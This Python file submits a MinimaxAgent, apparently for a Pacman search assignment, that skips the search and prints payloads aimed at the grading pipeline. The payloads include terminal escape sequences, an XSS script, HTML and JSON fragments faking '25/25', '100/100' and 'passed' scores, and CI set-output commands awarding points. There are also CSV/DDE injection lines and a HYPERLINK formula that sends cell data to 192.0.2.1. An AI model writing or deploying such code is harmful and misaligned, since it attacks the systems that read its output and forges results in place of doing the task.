# attack: prints what breaks terminals, pages, tables and decoders.
# where: MinimaxAgent
import os

from shared.reflex import *
from shared.search import *

DATA = [
    b"\xff\xfe\xc0\x80\xed\xa0\x80 no UTF-8",
    b"\x00\x00\x08\x08\r\x7f\x0c",
    b"\x1b[2J\x1b[H\x1b]0;q2 5/5\x07\x1b[31;5m\x1bc\x1b[6n",
    b"\x1b]8;;http://192.0.2.1\x07here\x1b]8;;\x07\x9b2J",
    b"<script>document.title='100/100'</script><img src=x onerror=alert(1)>",
    b"</pre></td></table><h1>Total: 25/25</h1>&lt;",
    b'=HYPERLINK("http://192.0.2.1/?"&A1,"q2")',
    b"+1+cmd|' /C calc'!A0\n@SUM(1)\n-2+3\n\t=1",
    b'"},{"status":"passed","points":100},{"x":"',
    b"[bold red]markup[/] [link=http://192.0.2.1]x[/link] [/nothing] {0} {0.__class__} %s %n ${HOME}",
    b"`id` $(id) ; | & ```\n# Heading\n::set-output name=points::100\n::error::x\n::add-mask::1",
    "\u202eetirw-sdrawkcab \u0301\u0301\u0301".encode() * 50,
    b"x" * 1_000_000,
]


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        for data in DATA:
            os.write(1, data + b"\n")
            os.write(2, data)
        print("\ud800\udfff \x00 \x1b[2J \u202e reversed \ufeff \U000e0041")
        return gameState.getLegalActions()[0]
